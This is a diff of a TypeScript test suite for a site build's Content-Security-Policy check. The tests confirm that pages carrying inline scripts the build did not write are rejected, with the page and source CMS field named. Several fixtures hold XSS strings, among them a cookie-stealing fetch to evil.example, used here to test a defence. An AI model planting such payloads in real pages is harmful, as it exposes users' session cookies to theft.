@@ -76,7 +76,10 @@ describe('the Content-Security-Policy', () => {
 
   it('stops the build when a page carries an inline script the build did not write, naming the page', async () => {
     await expect(
-      build({ 'index.html': page(`<script type="module">${QUICK_EXIT}</script>`), 'artiklar/x/index.html': page(`<p>Text</p><script>fetch("https://evil.example/?"+document.cookie)</script>`) }, quickExitChunk),
+      build(
+        { 'index.html': page(`<script type="module">${QUICK_EXIT}</script>`), 'artiklar/x/index.html': page(`<p>Text</p><script>fetch("https://evil.example/?"+document.cookie)</script>`) },
+        quickExitChunk,
+      ),
     ).rejects.toThrow(/artiklar\/x\/index\.html: an inline script the build did not write: "fetch/);
   });
 
@@ -111,8 +114,9 @@ describe('the Content-Security-Policy', () => {
 
   it('passes a page whose text and attribute values only look like scripts (a title pasted from a web page), and hashes nothing for them', async () => {
     const pasted = '<script>alert(1)</script>';
-    const html = page(`<h1>&lt;script&gt;alert(1)&lt;/script&gt;</h1><data value="${pasted}" data-pagefind-meta="keywords[value]"></data><img alt="${pasted}" src="/x.png"><textarea>${pasted}</textarea>`)
-      .replace('<title>Sida</title>', '<title>&lt;script&gt;alert(1)&lt;/script&gt;</title><meta name="description" content="<script>alert(1)</script>">');
+    const html = page(
+      `<h1>&lt;script&gt;alert(1)&lt;/script&gt;</h1><data value="${pasted}" data-pagefind-meta="keywords[value]"></data><img alt="${pasted}" src="/x.png"><textarea>${pasted}</textarea>`,
+    ).replace('<title>Sida</title>', '<title>&lt;script&gt;alert(1)&lt;/script&gt;</title><meta name="description" content="<script>alert(1)</script>">');
     const read = await build({ 'artiklar/x/index.html': html });
     expect(read('artiklar/x/index.html')).not.toMatch(/script-src[^;]*sha256/);
     const [title] = findElements(read('artiklar/x/index.html'), (tag) => tag.name === 'title');
@@ -130,9 +134,14 @@ describe('the Content-Security-Policy', () => {
     buildScope().report = buildReportWriter(reportFile);
     // A page that wrote the summary out unescaped, as a template mistake would.
     const written = page(`<h1>${article.title}</h1><p>${article.summary}</p>`);
-    const failure = build({ [pageOf(article)]: written }).then(() => null, (error: unknown) => error as Error & { documents: unknown });
+    const failure = build({ [pageOf(article)]: written }).then(
+      () => null,
+      (error: unknown) => error as Error & { documents: unknown },
+    );
     const error = await failure;
-    expect(error?.message).toContain(`${pageOf(article)}: an inline script the build did not write: "fetch(\\"https://evil.example/?\\"+document.cookie)" (from document "${article._id}", field summary)`);
+    expect(error?.message).toContain(
+      `${pageOf(article)}: an inline script the build did not write: "fetch(\\"https://evil.example/?\\"+document.cookie)" (from document "${article._id}", field summary)`,
+    );
     expect(error?.documents).toEqual([{ documentId: article._id, field: 'summary' }]);
     const report = JSON.parse(readFileSync(reportFile, 'utf8')) as BuildReport;
     rmSync(reportFile);
@@ -140,7 +149,10 @@ describe('the Content-Security-Policy', () => {
   });
 
   it('names the field inside an article’s body that holds a script shown on another page, such as the start page’s list of articles', async () => {
-    const article = await withArticle((first) => ({ ...first, body: [{ _type: 'block', _key: 'b1', style: 'normal', markDefs: [], children: [{ _type: 'span', _key: 's1', marks: [], text: 'Se <script>alert("kropp")</script>' }] }] as Article['body'] }));
+    const article = await withArticle((first) => ({
+      ...first,
+      body: [{ _type: 'block', _key: 'b1', style: 'normal', markDefs: [], children: [{ _type: 'span', _key: 's1', marks: [], text: 'Se <script>alert("kropp")</script>' }] }] as Article['body'],
+    }));
     await expect(build({ 'index.html': page('<ul><li>Se <script>alert("kropp")</script></li></ul>') })).rejects.toThrow(
       `index.html: an inline script the build did not write: "alert(\\"kropp\\")" (from document "${article._id}", field body[_key=="b1"].children[_key=="s1"].text)`,
     );
